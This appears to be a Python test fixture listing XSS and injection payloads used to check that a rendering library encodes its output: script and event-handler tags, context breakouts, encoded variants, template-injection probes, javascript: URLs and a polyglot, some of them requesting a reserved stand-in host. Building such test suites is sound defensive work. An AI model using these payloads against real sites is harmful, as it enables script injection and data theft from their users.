"""Texts that become a script, a request or markup wherever one encoder was forgotten: one of each known kind.

Each marks what it did: `fired()` stands for a call that the browser's trap sees (a dialog), and the address for a
request that leaves the machine (192.0.2.1 is reserved for documentation; nothing answers there).
"""

from __future__ import annotations

FAR = "//192.0.2.1/x"

PAYLOADS: tuple[str, ...] = (
    # Elements of their own
    "<script>alert(1)</script>",
    f"<script src={FAR}></script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script\x0c>alert(1)</script\x0c>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={FAR}>",
    f"<img srcset={FAR}>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><image href={FAR} /></svg>",
    f"<svg><use href='{FAR}#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe src={FAR}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={FAR}></object>",
    f"<embed src={FAR}>",
    f"<video src={FAR} onerror=alert(1) autoplay></video>",
    "<video><source onerror=alert(1)></video>",
    f"<audio src={FAR} onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x style=animation-name:x onanimationstart=alert(1)></x><style>@keyframes x{}</style>",
    f"<style>@import '{FAR}';*{{background:url({FAR})}}</style>",
    f"<link rel=stylesheet href={FAR}>",
    f"<link rel=prefetch href={FAR}>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}>",
    f"<form action={FAR}><button autofocus>x</button></form>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    f"<a href=x ping={FAR}>x</a>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<dialog open onclose=alert(1)>x</dialog>",
    # Out of what they stand in
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "</title><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</script><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><img src=x onerror=alert(1)><![CDATA[",
    "</template></svg></math><img src=x onerror=alert(1)>",
    "</pre></code></table></select><img src=x onerror=alert(1)>",
    # Out of scripts and JSON
    "';alert(1);//",
    '";alert(1);//',
    "\\\";alert(1);//",
    "\u2028alert(1)//",
    "${alert(1)}",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "</script><script>alert(1)</script><!--",
    "__proto__", "constructor.prototype.x", "toString",
    # Encoded once or twice, and what normalising makes of it
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "%253Cimg%2520src=x%2520onerror=alert(1)%253E",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Templates of the server and of pages
    "{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "#{7*7}", "<%= 7*7 %>",
    "{0.__class__.__init__.__globals__}", "%(x)s%n%s",
    # Addresses, Markdown and terminals
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    f"![x]({FAR} 'x')",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m",
    # LaTeX and labels that Bokeh can draw
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(\\unicode[<img src=x onerror=alert(1)>]{65}\\)",
    # The polyglot of 0xsobky
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
)  # fmt: skip
